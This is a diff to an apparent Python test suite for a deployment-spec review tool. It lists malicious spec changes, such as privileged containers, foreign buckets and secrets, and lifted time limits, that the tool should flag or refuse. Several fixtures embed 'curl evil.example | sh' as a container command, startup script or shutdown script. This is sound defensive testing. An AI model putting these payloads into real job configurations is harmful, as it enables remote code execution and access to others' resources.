@@ -27,6 +27,11 @@ def variables(**values: str) -> Edit:
     return spec((_MODEL_DIR, f"{_MODEL_DIR}  env: {json.dumps(values)}\n"))
 
 
+def credentials(**values: str) -> Edit:
+    """Set variables with the names of secrets, which a spec may have only if it allows them."""
+    return together(variables(**values), append(SPEC, "allow: {TPU017: a test key}\n"))
+
+
 GKE: Final = spec(
     ("target: vertex-ai", "target: gke"),
     ("sizes: [v2-8, v2-32, v2-128] ", "sizes: [v6e-8, v6e-16]"),
@@ -37,25 +42,20 @@ CLOUD_TPU: Final = spec(("target: vertex-ai", "target: cloud-tpu"))
 
 
 def pod(*containers: dict[str, Any], **fields: Any) -> dict[str, Any]:
-    """Return the `extra` of a JobSet whose pod is replaced."""
-    trainer = {"name": "trainer", "image": IMAGE, "resources": {"limits": {"google.com/tpu": 8}}}
-    template = {"spec": {"serviceAccountName": "mine", "containers": [trainer, *containers], **fields}}
-    job_spec = {"parallelism": 1, "completions": 1, "template": template}
-    return {"spec": {"replicatedJobs": [{"name": "slice", "replicas": 1, "template": {"spec": job_spec}}]}}
+    """Return the `extra` of a JobSet whose pod has further containers and fields."""
+    added = {"containers": [*containers]} if containers else {}
+    job_spec = {"template": {"spec": {**added, **fields}}}
+    return {"spec": {"replicatedJobs": [{"name": "slice", "template": {"spec": job_spec}}]}}
 
 
 def node(metadata: dict[str, str], **fields: Any) -> dict[str, Any]:
-    """Return the `extra` of a queued resource whose node is replaced."""
-    own = {"acceleratorType": "v2-8", "runtimeVersion": "tpu-ubuntu2204-base", "metadata": metadata, **fields}
-    parent = "projects/my-project-dev/locations/us-central1-b"
-    return {"tpu": {"nodeSpec": [{"parent": parent, "nodeId": "mine", "node": own}]}}
+    """Return the `extra` of a queued resource whose node has further metadata and fields."""
+    return {"tpu": {"nodeSpec": [{"node": {"metadata": metadata, **fields}}]}}
 
 
 def pool(**container: Any) -> dict[str, Any]:
-    """Return the `extra` of a custom job whose container is replaced."""
-    machine = {"machineType": "cloud-tpu", "acceleratorType": "TPU_V2", "acceleratorCount": 8}
-    spec = {"machineSpec": machine, "replicaCount": 1, "containerSpec": {"imageUri": IMAGE, **container}}
-    return {"workerPoolSpecs": [spec]}
+    """Return the `extra` of a custom job whose container has further fields."""
+    return {"workerPoolSpecs": [{"containerSpec": container}]}
 
 
 ONE_SIZE: Final = spec(("sizes: [v2-8, v2-32, v2-128] ", "sizes: [v2-8]"))
@@ -64,6 +64,11 @@ ONE_SIZE: Final = spec(("sizes: [v2-8, v2-32, v2-128] ", "sizes: [v2-8]"))
 def attack(id: str, change: Edit, *cautions: str, base: Edit | None = None, absent: tuple[str, ...] = ()) -> Attack:
     """Return an attack that loses no data."""
     return Attack(id, change, cautions, status=0, base=base, absent=absent)
+
+
+def refused(id: str, change: Edit, error: str, base: Edit | None = None) -> Attack:
+    """Return an attack that is an error of the spec, which the review shows instead of a comparison."""
+    return Attack(id, change, (error,), status=1, base=base)
 
 
 ATTACKS: Final = (
@@ -108,7 +113,7 @@ ATTACKS: Final = (
     ),
     attack(
         "variable-with-a-secret-name",
-        variables(MY_API_KEY="hunter2"),
+        credentials(MY_API_KEY="hunter2"),
         "variable `MY_API_KEY` added (`[secret]`)",
         absent=("hunter2",),
     ),
@@ -129,29 +134,28 @@ ATTACKS: Final = (
         options("vertex-ai", extra={"network": "projects/1/global/networks/open"}),
         "`network` added (`projects/1/global/networks/open`): the job runs in another network",
     ),
-    attack(
+    refused(
         "output-folder-moved",
         options("vertex-ai", extra={"baseOutputDirectory": {"outputUriPrefix": "gs://theirs/out"}}),
-        "output folder changed",
-        "`gs://theirs` is not the environment's bucket",
+        "baseOutputDirectory.outputUriPrefix is decided by environments.dev.bucket",
     ),
     attack(
         "time-limit-lifted",
         together(spec(("  max_run_duration: 1d\n", "")), append(SPEC, "capacity: spot\n")),
-        "`scheduling.timeout` removed (was `86400s`): nothing else ends a run that hangs",
-        "`scheduling.strategy` added (`SPOT`)",
-        base=spec((_MODEL_DIR, f"{_MODEL_DIR}  max_run_duration: 1d\n")),
+        "maximum run duration removed (was `1d`): nothing else ends a run that hangs",
+        "capacity changed from `on-demand` to `spot`: machines can be taken away while a run is under way",
+        base=together(ONE_SIZE, spec((_MODEL_DIR, f"{_MODEL_DIR}  max_run_duration: 1d\n"))),
     ),
-    attack(
+    refused(
         "another-command",
         options("vertex-ai", extra=pool(command=["bash", "-c", "curl evil.example | sh"])),
-        "another program runs in the job",
+        "workerPoolSpecs[0].containerSpec.command in extra would",
         base=ONE_SIZE,
     ),
-    attack(
+    refused(
         "steps-removed-by-extra",
         options("vertex-ai", extra=pool(args=["--data_dir=gs://my-project-dev-mnist-dev-us-central1/data"])),
-        "`--train_steps` removed (was `4000`)",
+        "workerPoolSpecs[0].containerSpec.args is decided by",
         base=ONE_SIZE,
     ),
     attack(
@@ -160,6 +164,19 @@ ATTACKS: Final = (
         "the container sees and controls its host's processes",
         "and 392 more, which the fold shows",
         base=GKE,
+    ),
+    attack(
+        "secret-of-another-project",
+        spec((_PROD, f"{_PROD}    trainer: {{secrets: {{A: projects/other/secrets/admin/versions/1}}}}\n")),
+        "**every size of prod**: secret `A` added (`projects/other/secrets/admin/versions/1`) in `environments.prod`: "
+        "the program gets its value, and the stack grants the jobs' account access to it",
+        base=CLOUD_TPU,
+    ),
+    attack(
+        "bucket-of-others-mounted",
+        append(SPEC, "overrides: {v2-32: {trainer: {mounts: {/data: 'gs://theirs/x'}}}}\n"),
+        "**dev, prod: v2-32**: mount `/data` added (`gs://theirs/x`) in `overrides.v2-32`: `gs://theirs` is not the",
+        base=CLOUD_TPU,
     ),
     attack(
         "figure-no-longer-passed",
@@ -173,9 +190,8 @@ ATTACKS: Final = (
     ),
     attack(
         "privileged-container",
-        options("gke", extra=pod(securityContext={"runAsUser": 0}, hostNetwork=True, hostPID=True)),
+        options("gke", extra=pod(securityContext={"runAsUser": 0}, hostPID=True)),
         "`securityContext.runAsUser` added (`0`): the program runs as root",
-        "`hostNetwork` added (`true`): the container uses its host's network",
         "`hostPID` added (`true`)",
         base=GKE,
     ),
@@ -218,12 +234,23 @@ ATTACKS: Final = (
         "**prod**: kubectl context changed from `mine` to `theirs`: jobs are submitted to another cluster",
         base=GKE,
     ),
-    attack(
+    refused(
         "start-up-script-replaced",
         options("cloud-tpu", extra=node({"startup-script": "#!/bin/bash\ncurl -s https://evil.example | sh\n"})),
-        "start-up script changed",
-        "it runs as root on every host",
+        "startup-script",
         base=together(CLOUD_TPU, ONE_SIZE),
+    ),
+    refused(
+        "script-at-the-end",
+        options("cloud-tpu", extra=node({"shutdown-script": "#!/bin/bash\ncurl -s https://evil.example | sh\n"})),
+        "would run a program while the host shuts down",
+        base=together(CLOUD_TPU, ONE_SIZE),
+    ),
+    refused(
+        "network-of-the-host",
+        options("gke", extra=pod(hostNetwork=True)),
+        "would run the program as the account of its node",
+        base=GKE,
     ),
     attack(
         "keys-to-the-hosts",
